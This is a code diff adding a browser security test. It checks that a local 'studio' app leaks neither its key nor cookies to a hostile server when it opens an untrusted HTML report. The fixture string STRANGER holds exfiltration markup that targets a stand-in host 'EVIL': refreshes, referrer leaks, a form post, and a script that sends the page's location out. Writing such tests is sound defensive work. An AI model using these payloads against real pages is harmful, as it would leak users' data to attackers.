@@ -3,6 +3,7 @@
 import pytest
 from playwright.sync_api import expect
 from tests.search.page_server import search_page, serving
+from tests.studio.opened import folder_of_people, open_studio
 from tests.web.hostile import hostile_server
 
 from confide.core.samples import documents
@@ -102,6 +103,43 @@ def test_the_owner_s_page_of_a_stream_gives_nothing_to_another_port(browser):
     finally:
         hub.over = True
         server.close()
+
+
+STRANGER = """<!doctype html><title>stranger</title><meta name="referrer" content="unsafe-url">
+<meta http-equiv="refresh" content="0;url=EVIL?refreshed"><link rel="stylesheet" href="EVIL?style">
+<link rel="prefetch" href="EVIL?prefetched"><img src="EVIL?image" referrerpolicy="unsafe-url">
+<iframe src="EVIL?frame" referrerpolicy="unsafe-url"></iframe><object data="EVIL?object"></object>
+<style>p { background: url("EVIL?background") } @import "EVIL?import";</style><p>words</p>
+<a href="EVIL?clicked" referrerpolicy="unsafe-url">plain</a>
+<a href="EVIL?top" target="_top" referrerpolicy="unsafe-url">top</a>
+<a href="EVIL?blank" target="_blank" rel="opener" referrerpolicy="unsafe-url">blank</a>
+<form action="EVIL?sent" method="post"><button>send</button></form>
+<script>location = "EVIL?script" + encodeURIComponent(location)</script>"""
+
+
+def test_the_studio_gives_nothing_to_another_port_nor_to_a_report_that_a_stranger_wrote(browser, tmp_path):
+    folder_of_people(tmp_path, 40)
+    with open_studio(tmp_path) as opened:
+        key = opened.guard.key
+        with hostile_server(opened.guard.url, ["", "columns?table=people.csv", "download?name=people.csv"]) as hostile:
+            (tmp_path / "report.html").write_text(STRANGER.replace("EVIL", hostile.address))
+            context = browser.new_context()
+            page = context.new_page()
+            page.goto(opened.url)
+            attack(context.new_page(), hostile)
+            attack(page, hostile)
+            check_nothing_was_learned(hostile, key)
+            for address in ("file?name=report.html", "report?name=report.html"):
+                for link in ("plain", "top", "blank", "send"):
+                    page.goto(opened.url + address)
+                    inside = page.frame_locator("iframe.report") if address.startswith("file") else page
+                    if inside.locator("p").count():
+                        inside.get_by_text(link, exact=True).click(no_wait_after=True)
+                    page.wait_for_timeout(300)  # whatever it does by itself
+            assert any("?clicked" in text for text in hostile.seen), "a link that somebody follows leads there"
+            assert all(key not in text for text in hostile.seen)
+            assert context.cookies() == []
+            context.close()
 
 
 def test_forms_work_without_scripts_and_only_from_the_page_itself(browser):
